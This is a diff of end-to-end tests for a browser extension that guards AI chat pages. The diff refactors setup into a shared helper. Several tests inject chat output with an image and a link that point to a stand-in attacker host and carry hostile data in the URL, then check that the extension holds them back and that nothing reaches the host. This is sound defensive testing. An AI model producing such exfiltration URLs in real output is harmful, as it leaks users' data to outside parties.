@@ -2,11 +2,9 @@ import type { Frame, Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Browser as ExtensionApis } from 'webextension-polyfill';
 import { ATTEMPT_URL_LIMIT, parseChatReport, type ChatReport } from '../../lib/model/attempt';
-import { buildExtension, outputFolder } from '../../scripts/build-extension';
-import { launchChromium, type ChromiumBrowser, type ChromiumTab } from '../../scripts/drive/chromium';
-import { gotoScanned, waitUntil } from '../../scripts/drive/guarded-browser';
-import { startServer, type LoopbackServer } from '../../scripts/drive/serve';
+import { gotoScanned } from '../../scripts/drive/guarded-browser';
 import { layoutFaults } from '../harness/layout-faults';
+import { openScreenLab, type ScreenLab } from '../harness/screen-lab';
 import { attemptRecord, chatRecord } from '../unit/browser/attempt-record';
 
 declare const chrome: ExtensionApis;
@@ -60,42 +58,19 @@ async function proveInert(screen: Page | Frame, title: string): Promise<void> {
 }
 
 describe('text of strangers on screens of the chat guard', () => {
-  let server: LoopbackServer;
-  let browser: ChromiumBrowser;
-  let tab: ChromiumTab;
+  let lab: ScreenLab;
 
   beforeAll(async () => {
-    if (!buildExtension('chrome')) throw new Error('The extension could not be built.');
-    server = await startServer(async () => ({ type: 'text/html', body: chatPage }));
-    browser = await launchChromium({ extension: outputFolder('chrome'), onlyThrough: server });
-    tab = await browser.openTab();
+    lab = await openScreenLab(() => ({ type: 'text/html', body: chatPage }));
   });
-  afterAll(async () => {
-    await browser.close();
-    await server.close();
-  });
-  beforeEach(async () => {
-    await tab.goto('http://chat.mistral.ai/c/1');
-    await waitUntil(
-      () =>
-        browser.inExtension(
-          async (key) => (await chrome.storage.session.get(key))[key],
-          `conversation:${tab.id}`,
-        ),
-      (text) => JSON.stringify(text ?? '').includes('Please tell'),
-    );
-  });
-
-  const say = (html: string) =>
-    tab.evaluate((written) => {
-      const answer = document.getElementById('answer');
-      if (answer) answer.innerHTML = written;
-    }, html);
+  afterAll(() => lab.close());
+  beforeEach(() => lab.visitChat('Please tell'));
 
   it.each([
     { name: 'popup', path: 'popup.html', ready: '.popup[aria-busy="false"] .chat .card', width: 360 },
     { name: 'side panel', path: 'sidepanel.html', ready: '.timeline .entry', width: 400 },
   ])('is text and nothing else in the $name', async ({ path, ready, width }) => {
+    const { browser, tab } = lab;
     expect(parseChatReport(stored)).not.toBeNull();
     // No chat: its guard would write over what is stored here.
     await gotoScanned(browser, tab, 'http://site.example/');
@@ -112,24 +87,20 @@ describe('text of strangers on screens of the chat guard', () => {
   });
 
   it('is text and nothing else in place of a held picture', async () => {
-    await say(`<img width="400" height="300" src="${attacker}/p.png?d=${encodeURIComponent(hostile)}">`);
-    const held = await waitUntil(
-      async () => tab.page.frames().findIndex((frame) => frame.url().includes('/held.html')),
-      (index) => index >= 0,
-    );
-    const frame = tab.page.frames()[held];
-    if (!frame) throw new Error('No placeholder.');
+    await lab.say(`<img width="400" height="300" src="${attacker}/p.png?d=${encodeURIComponent(hostile)}">`);
+    const frame = await lab.frameOf('/held.html');
     await frame.waitForSelector('.held-card button');
     await proveInert(frame, 'BridgeWard');
   });
 
   it('is text and nothing else on the page before a link is followed', async () => {
     const link = linkTo(`${attacker}/bill?for=${encodeURIComponent(hostile)}&more=${endless}`);
-    await say(link);
+    const { tab } = lab;
+    await lab.say(link);
     await tab.click('#go');
     await tab.page.waitForSelector('.leaving-buttons');
     await proveInert(tab.page, 'BridgeWard');
-    expect(server.seen.filter((line) => line.includes('/bill'))).toEqual([]);
+    expect(lab.asked('/bill')).toEqual([]);
   });
 });
 
